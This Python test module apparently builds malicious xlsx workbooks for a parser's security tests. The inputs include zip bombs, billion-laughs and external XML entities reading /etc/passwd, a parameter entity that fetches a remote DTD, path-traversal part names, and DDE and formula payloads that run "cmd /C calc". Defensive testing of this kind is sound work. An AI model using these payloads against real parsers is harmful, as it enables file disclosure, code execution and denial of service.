"""Workbooks that mean harm: each is refused, or read without a trace of it. Bombs are made only when they are asked for."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from tests.docx_builder import OFFICE, zipped
from tests.raw_workbook import MAIN, parts, relations, sheet, strings, styles, workbook

Maker = Callable[[], bytes]
LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
FAR = [
    "XFD1048576",
    "XFD1",
    "A1048576",
    "A20001",
    "IW1",
    "IW20001",
    "ZZ9999",
    "AAA1",
    "CV100000",
    "B1000000",
    "A65536",
    "XEZ20000",
]
RIBBON = "ABCDEFGHIJKLMNOPQRST"
SHEET_RELATIONS, SHEET = "xl/worksheets/_rels/sheet1.xml.rels", "xl/worksheets/sheet1.xml"


def cell(address: str, value: str = "1", more: str = "") -> str:
    """Return a row of one cell."""
    return f'<row><c r="{address}"{more}><v>{value}</v></c></row>'


def replaced(part: str, content: str | bytes) -> bytes:
    """Return a workbook with a part of this content."""
    return zipped({**parts(cell("A1"), shared=strings("<t>a</t>"), style=styles(14)), part: content})


def dtd(root: str, entities: str = '<!ENTITY x "y">') -> str:
    """Return XML with a DTD."""
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "ha">{entities}]><{root}>&l9;</{root}>'


def stored(entries: list[tuple[str, bytes]]) -> bytes:
    """Return a zip whose names may repeat."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in entries:
            package.writestr(name, content)
    return out.getvalue()


def nested_zips() -> bytes:
    """Return a workbook that holds a zip that holds a zip, and so on."""
    inner = b"x" * 1_000
    for _ in range(8):
        inner = zipped({"a.zip": inner})
    return replaced("xl/media/a.png", inner)


def outside(part: str, kind: str, target: str) -> bytes:
    """Return a workbook with a relation to somewhere else."""
    return replaced(part, relations(("r", kind, target), mode="External"))


def twice() -> bytes:
    """Return a workbook that has a sheet twice, in small letters and in capitals."""
    again = f'<sheet name="CHỈ TIÊU" r:id="rId1" xmlns:r="{OFFICE}"/></sheets>'
    return replaced("xl/workbook.xml", parts()["xl/workbook.xml"].decode().replace("</sheets>", again))


def utf_16(root: str) -> bytes:
    """Return XML with a DTD, in UTF-16 and saying so."""
    return dtd(root).replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")


def wide(count: int, cell: str) -> str:
    """Return many rows of twenty cells; "@" stands for an address."""
    return rows(count, "<row>" + "".join(cell.replace("@", f"{letter}@") for letter in RIBBON) + "</row>")


def rows(count: int, row: str) -> str:
    """Return many rows; "@" stands for the number."""
    return "".join(row.replace("@", str(at)) for at in range(1, count + 1))


REFUSED: dict[str, Maker] = {
    "zip bomb in a sheet": lambda: replaced(SHEET, b" " * 60_000_000),
    "zip bomb in a picture": lambda: replaced("xl/media/a.png", bytes(30_000_000)),
    "part beyond the limit": lambda: replaced("xl/theme/theme1.xml", bytes(65_000_000)),
    "many parts together too large": lambda: zipped({**parts(), **{f"a{at}.txt": bytes(4_900_000) for at in range(14)}}),
    "too many parts": lambda: zipped({**parts(), **{f"a{at}.txt": b"" for at in range(2_100)}}),
    "nested zips": nested_zips,
    "names that repeat": lambda: stored([*parts().items(), ("xl/Workbook.xml", b"<a/>")]),
    "names that leave the folder": lambda: replaced("../../a.xml", "<a/>"),
    "absolute name": lambda: replaced("/etc/a.xml", "<a/>"),
    "entities of entities": lambda: replaced("xl/sharedStrings.xml", dtd("sst", LAUGHS)),
    "quadratic entity": lambda: replaced(SHEET, dtd("worksheet", f'<!ENTITY l9 "{"x" * 100_000}">')),
    "external entity": lambda: replaced("xl/workbook.xml", dtd("workbook", '<!ENTITY l9 SYSTEM "file:///etc/passwd">')),
    "parameter entity": lambda: replaced("xl/styles.xml", dtd("styleSheet", '<!ENTITY % p SYSTEM "http://vi.du/a.dtd">%p;')),
    "DTD in UTF-16": lambda: replaced(SHEET, utf_16("worksheet")),
    "DTD in UTF-16, plain": lambda: replaced("xl/sharedStrings.xml", dtd("sst").encode("utf-16")),
    "DTD in relations": lambda: replaced("xl/_rels/workbook.xml.rels", dtd("Relationships")),
    "UTF-7": lambda: replaced("xl/sharedStrings.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-sst/+AD4-'),
    "UTF-32": lambda: replaced("xl/sharedStrings.xml", "<sst/>".encode("utf-32")),
    "link to another workbook": lambda: replaced("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
    "DDE link": lambda: replaced("xl/externalLinks/externalLink1.xml", '<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>'),
    "macros": lambda: replaced("xl/vbaProject.bin", b"x"),
    "OLE object": lambda: replaced("xl/embeddings/oleObject1.bin", b"x"),
    "remote picture": lambda: outside("xl/drawings/_rels/drawing1.xml.rels", "image", "http://vi.du/a.png"),
    "local file": lambda: outside(SHEET_RELATIONS, "hyperlink", "file:///etc/passwd"),
    "a sheet outside of the workbook": lambda: replaced(
        "xl/_rels/workbook.xml.rels", relations(("rId1", "worksheet", "../../../../etc/passwd"))
    ),
    "deep nesting in a sheet": lambda: workbook("<a>" * 100_000 + "</a>" * 100_000),
    "deep nesting in a cell": lambda: workbook('<row><c r="A1"><is>' + "<r>" * 50_000 + "</r>" * 50_000 + "</is></c></row>"),
    "deep nesting in the strings": lambda: workbook(cell("A1"), shared=strings("<r>" * 50_000 + "</r>" * 50_000)),
    "a million strings": lambda: workbook(
        cell("A1", "0", ' t="s"'), shared=strings(*(f"<t>{at}</t>" for at in range(1_000_000)))
    ),
    "too many strings with runs": lambda: workbook(cell("A1"), shared=strings(*(f"<r><t>{at}</t></r>" for at in range(310_000)))),
    "a million cells": lambda: workbook("".join(f'<row r="{at}">{"<c><v>1</v></c>" * 100}</row>' for at in range(1, 10_001))),
    "too many plain cells": lambda: workbook(wide(18_000, '<c r="@"><v>1</v></c>')),
    "a thousand sheets": lambda: zipped(parts(sheets={f"S{at}": sheet("") for at in range(1_000)})),
    "a sheet twice": twice,
    "a workbook that is its own sheet": lambda: replaced("_rels/.rels", relations(("r", "officeDocument", "_rels/.rels"))),
    "half a sheet": lambda: replaced(SHEET, sheet(rows(100, cell("A@")))[:-200]),
    "tags crossed by plain cells": lambda: workbook('<row><a><c r="A1"><v>1</v></c></row></a>'),
    "NUL in a sheet": lambda: workbook("<row>\x00</row>"),
}

TOLD: dict[str, Maker] = {
    **{f"far cell {address}": lambda address=address: workbook(cell("A1") + cell(address)) for address in FAR},  # type: ignore[misc]
    "number too large": lambda: workbook(cell("A1", "1e400")),
    "NaN": lambda: workbook(cell("A1", "NaN")),
    "INF": lambda: workbook(cell("A1", "INF")),
    "exponent without end": lambda: workbook(cell("A1", "1e999999999999")),
    "a number of a million digits": lambda: workbook(cell("A1", "9" * 1_000_000)),
    "address of a relation": lambda: workbook(cell("rId999")),
    "row zero": lambda: workbook(cell("A0")),
    "four letters": lambda: workbook(cell("AAAA1")),
    "address without end": lambda: workbook(cell("A" * 100_000 + "1")),
    "string -1": lambda: workbook(cell("A1", "-1", ' t="s"'), shared=strings("<t>a</t>")),
    "string 999999": lambda: workbook(cell("A1", "999999", ' t="s"'), shared=strings("<t>a</t>")),
    "type of cell unknown": lambda: workbook(cell("A1", "1", ' t="zip"')),
    "control character": lambda: workbook('<row><c r="A1" t="inlineStr"><is><t>a_x0000_b</t></is></c></row>'),
    "lone surrogate": lambda: workbook('<row><c r="A1" t="inlineStr"><is><t>a_xD800_b</t></is></c></row>'),
    "text without end": lambda: workbook(cell("A1", "0", ' t="s"'), shared=strings(f"<t>{'x' * 4_000_000}</t>")),
    "call of a program": lambda: workbook("""<row><c r="A1"><f>cmd|'/C calc'!A0</f><v>0</v></c></row>"""),
    "a fault in every cell": lambda: workbook(rows(19_000, '<row><c r="A@"><v>x</v></c></row>')),
}

HARMLESS: dict[str, Maker] = {
    "style out of range": lambda: workbook(cell("A1", "1", ' s="99999"'), style=styles(14)),
    "style that is no number": lambda: workbook(cell("A1", "1", ' s="-1"'), style=styles(14)),
    "format with a number too large": lambda: workbook(cell("A1", "1", ' s="0"'), style=styles(int("9" * 4_000))),
    "day beyond the calendar": lambda: workbook(cell("A1", "1e300", ' s="0"'), style=styles(14)),
    "relations in a circle": lambda: replaced(
        SHEET_RELATIONS, relations(("r", "worksheet", "sheet1.xml"), ("s", "workbook", "../workbook.xml"))
    ),
    "formula over all cells": lambda: workbook('<row><c r="A1"><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c></row>'),
    "ten thousand areas": lambda: workbook(rows(10_000, '<row><c r="A@"><f t="array" ref="A1:IV20000">1</f><v>1</v></c></row>')),
    "dimension that lies": lambda: zipped(parts(sheets={"A": sheet(cell("A1"), head='<dimension ref="A1:XFD1048576"/>')})),
    "rows without content to the end": lambda: workbook(cell("A1") + '<row r="1048576"><c r="XFD1048576" s="1"/></row>'),
    "all columns merged": lambda: zipped(
        parts(sheets={"A": sheet(cell("A1"), tail='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')})
    ),
    "200,000 styled blanks": lambda: workbook(wide(10_000, '<c r="@" s="1"/>') + cell("A1")),
    "a formula as text": lambda: workbook('<row><c r="A1" t="inlineStr"><is><t>=cmd|\'/C calc\'!A0</t></is></c></row>'),
    "names of entities as text": lambda: workbook(
        '<row><c r="A1" t="inlineStr"><is><t>&amp;lol; &lt;!DOCTYPE a&gt;</t></is></c></row>'
    ),
    "long comment before the root": lambda: replaced("xl/theme/theme1.xml", f"<!--{'x' * 4_000_000}--><a/>"),
    "strings that nobody uses": lambda: workbook(cell("A1"), shared=strings(*(f"<t>{at}</t>" for at in range(250_000)))),
    "another namespace": lambda: replaced(SHEET, sheet(cell("A1")).replace(MAIN, "http://vi.du")),
}
